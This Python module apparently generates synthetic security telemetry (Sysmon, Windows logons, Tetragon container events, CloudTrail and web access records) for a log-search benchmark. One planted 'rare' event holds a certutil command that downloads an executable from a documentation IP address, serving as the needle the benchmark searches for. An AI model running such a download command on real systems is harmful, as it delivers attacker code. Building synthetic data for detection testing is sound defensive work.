# ruff: noqa: E501 - records are read as they are
"""Records for `lemnis bench search`: what a fleet, its directory, a cluster and a cloud account write, as JSON.

Each kind is a function that makes one record. What is new in every event is written as a marker (``_searchlake``
puts values there): a moment, a number that grows, random hex digits, a process id, a port.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from bench._events import _EXPLORER, _IMAGES, _SHELLS, _SYSTEM

MOMENT = "2026-01-01T12:34:56.789"
SPACED = MOMENT.replace("T", " ")
SECOND = MOMENT[:19]
NUMBER, PID, PORT = 4_000_000_017, 54_321, 45_678
HEX, HEX2 = "deadbeefdeadbeef", "feedfacefeedface"
RARE = "Qz7-Lemnis-Rare"
"""In the command lines of a few events, and of no other."""
HOSTS, USERS = 600, 900
Record = dict[str, Any]
Make = Callable[[random.Random], Record]


@dataclass(frozen=True, slots=True)
class Kind:
    """A kind of record: its source in ``content/sources``, its part of all events, how one is made."""

    name: str
    source: str
    share: float
    make: Make


def _words(seed: int, count: int) -> list[str]:
    source = random.Random(seed)  # noqa: S311 - made-up words, no secret
    letters = "abcdefghijklmnopqrstuvwxyz"
    return ["".join(source.choices(letters, k=source.randint(3, 11))) for _ in range(count)]


_VALUED = 0.5
_WORDS = _words(1, 4_000)
_NAMES = [f"{a}.{b}" for a, b in zip(_words(2, USERS), _words(3, USERS), strict=True)]
_BINARIES = ("/bin/sh", "/usr/bin/python3", "/usr/bin/curl", "/usr/sbin/nginx", "/usr/bin/node", "/bin/ls",
             "/usr/bin/git", "/usr/local/bin/app", "/bin/date", "/usr/bin/java")  # fmt: skip
_CALLS = (("ec2", "DescribeInstances"), ("s3", "GetObject"), ("sts", "AssumeRole"), ("iam", "ListUsers"),
          ("kms", "Decrypt"), ("logs", "PutLogEvents"), ("ec2", "RunInstances"))  # fmt: skip
_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
           "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "curl/8.11.0",
           "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 Version/18.1 Safari/605.1.15")  # fmt: skip


def _skewed(source: random.Random, many: int) -> int:
    """Return a number below ``many``, small ones more often."""
    return int(many * source.random() ** 2)


def _host(source: random.Random) -> str:
    return f"ws{_skewed(source, HOSTS):03}.corp.example.com"


def _address(source: random.Random) -> str:
    return f"10.{source.randrange(4)}.{source.randrange(64)}.{source.randrange(250)}"


def _options(image: str, template: int) -> str:
    """Return a command line of a program that is seen again and again: one of some thousand."""
    own = random.Random(f"{image}{template}")  # noqa: S311 - made-up, no secret
    words = own.choices(_WORDS, k=own.randint(1, 9))
    return f'"{image}" ' + " ".join(
        f"--{one}={own.randrange(500)}" if own.random() < _VALUED else one for one in words
    )


def _sysmon(event: int, source: random.Random, fields: Record) -> Record:
    host, user = _host(source), _NAMES[_skewed(source, USERS)]
    return {
        "@timestamp": f"{MOMENT}Z", "SourceName": "Microsoft-Windows-Sysmon", "Provider_Name": "Microsoft-Windows-Sysmon",
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": event, "Task": event, "Version": 5, "Level": 4, "OpcodeValue": 0, "Keywords": "0x8000000000000000",
        "EventRecordID": NUMBER, "Computer": host, "SystemTime": SPACED, "UtcTime": SPACED, "AccountName": "SYSTEM",
        "AccountType": "User", "UserID": "S-1-5-18", "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
        "ExecutionProcessID": 3520, "ThreadID": 4000 + source.randrange(40), "RuleName": "-",
        "ProcessGuid": f"{{6b8f0a1c-4a98-5ee0-{HEX[:4]}-{HEX[4:]}}}", "ProcessId": PID, "User": f"CORP\\{user}", **fields,
    }  # fmt: skip


def _process(source: random.Random, line: str, image: str) -> Record:
    parent = source.choice(
        (_EXPLORER, f"{_SYSTEM}services.exe", f"{_SYSTEM}svchost.exe", f"{_SYSTEM}cmd.exe")
    )
    own = random.Random(image)  # noqa: S311 - made-up, no secret
    return _sysmon(1, source, {
        "Image": image, "CommandLine": line, "OriginalFileName": image.rpartition("\\")[2],
        "FileVersion": "10.0.17763.1217 (WinBuild.160101.0800)", "Company": "Microsoft Corporation",
        "Description": "Host Process for Windows Services", "Product": "Microsoft Windows Operating System",
        "CurrentDirectory": "C:\\Windows\\System32\\", "IntegrityLevel": source.choice(("Medium", "High", "System")),
        "ParentImage": parent, "ParentCommandLine": _options(parent, source.randrange(40)),
        "ParentProcessId": 4 * source.randrange(2_000), "ParentUser": "NT AUTHORITY\\SYSTEM",
        "Hashes": f"SHA1={own.getrandbits(160):040X},MD5={own.getrandbits(128):032X},SHA256={own.getrandbits(256):064X}",
        "LogonId": f"0x{source.randrange(60_000):x}", "TerminalSessionId": source.randrange(4),
    })  # fmt: skip


def process_again(source: random.Random) -> Record:
    """Make a start of a process whose command line is seen often."""
    image = source.choice(_IMAGES)
    return _process(source, _options(image, _skewed(source, 300)), image)


def process_new(source: random.Random) -> Record:
    """Make a start of a process whose command line is its own."""
    image = source.choice(_IMAGES if source.random() < 0.8 else _SHELLS)  # noqa: PLR2004
    words = " ".join(source.choices(_WORDS, k=source.randint(2, 8)))
    return _process(source, f'"{image}" /run {words} --session {HEX2}', image)


def process_rare(source: random.Random) -> Record:
    """Make the start that is searched for."""
    image = f"{_SYSTEM}certutil.exe"
    return _process(
        source, f"certutil.exe -urlcache -split -f http://203.0.113.7/{RARE}.exe {HEX2}.exe", image
    )


def connection(source: random.Random) -> Record:
    """Make a network connection of a process."""
    return _sysmon(3, source, {
        "Image": source.choice(_IMAGES), "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
        "SourceIp": _address(source), "SourceHostname": "-", "SourcePort": PORT, "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationPort": source.choice((443, 443, 443, 80, 445, 389, 8443)),
        "DestinationIp": f"198.51.{_skewed(source, 100)}.{source.randrange(250)}", "DestinationPortName": "https",
        "DestinationHostname": f"{source.choice(_WORDS)}.example.{source.choice(('com', 'net', 'org'))}",
    })  # fmt: skip


def lookup(source: random.Random) -> Record:
    """Make a DNS query of a process."""
    name = f"{_WORDS[_skewed(source, 4_000)]}.{_WORDS[_skewed(source, 300)]}.example.com"
    answers = f"type: 5 cdn.{name};::ffff:198.51.100.{source.randrange(250)};"
    return _sysmon(22, source, {
        "QueryName": name, "QueryStatus": "0", "QueryResults": answers, "Image": source.choice(_IMAGES),
    })  # fmt: skip


def logon(source: random.Random) -> Record:
    """Make a logon as Windows' Security log tells it."""
    user = _NAMES[_skewed(source, USERS)]
    return {
        "@timestamp": f"{MOMENT}Z", "SourceName": "Microsoft-Windows-Security-Auditing",
        "Provider_Name": "Microsoft-Windows-Security-Auditing", "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
        "Channel": "Security", "EventID": 4624, "Task": 12544, "Version": 2, "Level": 0, "Keywords": "0x8020000000000000",
        "EventRecordID": NUMBER, "Computer": f"dc{source.randrange(4):02}.corp.example.com", "SystemTime": SPACED,
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserSid": f"S-1-5-21-1004336348-1177238915-682003330-{1000 + _NAMES.index(user)}", "TargetUserName": user,
        "TargetDomainName": "CORP", "TargetLogonId": f"0x{HEX[:8]}", "LogonType": source.choice(("3", "3", "3", "2", "10")),
        "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "-",
        "LogonGuid": f"{{9cf03291-8c56-d23c-{HEX2[:4]}-{HEX2[4:]}}}", "TransmittedServices": "-", "LmPackageName": "-",
        "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": _address(source), "IpPort": str(PORT),
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "VirtualAccount": "%%1843", "ElevatedToken": "%%1842",
    }  # fmt: skip


def _exec(source: random.Random, binary: str, arguments: str) -> Record:
    app = _WORDS[_skewed(source, 200)]
    pod = {
        "namespace": f"{app}-prod", "name": f"{app}-7d9f{source.randrange(30):02}", "workload": app, "workload_kind": "Deployment",
        "container": {
            "id": f"containerd://{random.Random(app).getrandbits(128):032x}", "name": app,  # noqa: S311
            "image": {"id": f"registry.example/{app}@sha256:{random.Random(app).getrandbits(256):064x}",  # noqa: S311
                      "name": f"registry.example/{app}:1.{source.randrange(3)}"},
        },
    }  # fmt: skip
    shared = {"uid": 33, "cwd": "/srv", "flags": "execve clone", "auid": 4294967295, "pod": pod}
    parent = source.choice(("/usr/local/bin/python3", "/sbin/init", "/usr/bin/dumb-init"))
    return {
        "process_exec": {
            "process": {"exec_id": f"bm9kZS0x{HEX}", "pid": PID, "binary": binary, "arguments": arguments,
                        "start_time": f"{MOMENT}000000Z", **shared},
            "parent": {"exec_id": f"bm9kZS0x{source.randrange(9_000)}", "pid": source.randrange(9_000), "binary": parent,
                       "arguments": "app.py", **shared},
        },
        "node_name": f"node-{source.randrange(40):02}", "time": f"{MOMENT}000000Z",
    }  # fmt: skip


def exec_again(source: random.Random) -> Record:
    """Make a start of a process in a container, as Tetragon tells it."""
    binary = source.choice(_BINARIES)
    return _exec(source, binary, _options(binary, _skewed(source, 200)).partition('" ')[2])


def exec_new(source: random.Random) -> Record:
    """Make a start in a container whose arguments are its own."""
    words = " ".join(source.choices(_WORDS, k=source.randint(1, 5)))
    return _exec(source, source.choice(_BINARIES), f"-c '{words}' --request={HEX2}")


def call(source: random.Random) -> Record:
    """Make a call to a cloud's interface, as CloudTrail tells it."""
    service, operation = source.choice(_CALLS)
    user = _NAMES[_skewed(source, USERS)]
    return {
        "eventVersion": "1.08", "eventID": f"{HEX[:8]}-{HEX[8:12]}-4000-8000-{HEX2[:12]}", "eventTime": f"{SECOND}Z",
        "eventSource": f"{service}.amazonaws.com", "eventName": operation, "awsRegion": "eu-central-1",
        "sourceIPAddress": f"203.0.113.{source.randrange(250)}", "userAgent": "aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux",
        "userIdentity": {
            "type": "IAMUser", "principalId": f"AIDA{random.Random(user).getrandbits(64):016X}",  # noqa: S311
            "arn": f"arn:aws:iam::123456789012:user/{user}", "userName": user, "accountId": "123456789012",
            "accessKeyId": f"AKIA{random.Random(user).getrandbits(64):016X}",  # noqa: S311
        },
        "requestParameters": {"bucketName": f"data{source.randrange(80)}", "key": f"reports/{source.choice(_WORDS)}.parquet"},
        "responseElements": None, "requestID": f"{HEX2[:8]}-{HEX2[8:12]}-4000-8000-{HEX[:12]}", "readOnly": True,
        "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": "123456789012", "eventCategory": "Management",
    }  # fmt: skip


def request(source: random.Random) -> Record:
    """Make a web server's access record."""
    return {
        "time_iso8601": f"{SECOND}+00:00", "remote_addr": f"198.51.{_skewed(source, 100)}.{source.randrange(250)}",
        "remote_user": "", "request_method": source.choice(("GET", "GET", "GET", "POST")), "server_protocol": "HTTP/2.0",
        "request_uri": f"/{source.choice(_WORDS)}/{_WORDS[_skewed(source, 900)]}?session={HEX[:12]}",
        "status": source.choice((200, 200, 200, 304, 404, 500)), "body_bytes_sent": source.randrange(40_000),
        "request_time": source.randrange(400) / 1000, "http_referer": "https://shop.example.com/",
        "http_user_agent": source.choice(_AGENTS), "host": "shop.example.com", "request_id": f"{HEX}{HEX2}",
    }  # fmt: skip


KINDS = (
    Kind("process, again", "windows", 0.25, process_again),
    Kind("process, new", "windows", 0.09, process_new),
    Kind("exec, again", "tetragon", 0.12, exec_again),
    Kind("exec, new", "tetragon", 0.03, exec_new),
    Kind("connection", "windows", 0.19, connection),
    Kind("lookup", "windows", 0.12, lookup),
    Kind("logon", "windows", 0.08, logon),
    Kind("call", "aws_cloudtrail", 0.06, call),
    Kind("request", "web_json", 0.06, request),
)
"""Half of all events have command lines, a quarter of them their own."""
PLANTED = Kind("process, rare", "windows", 0, process_rare)
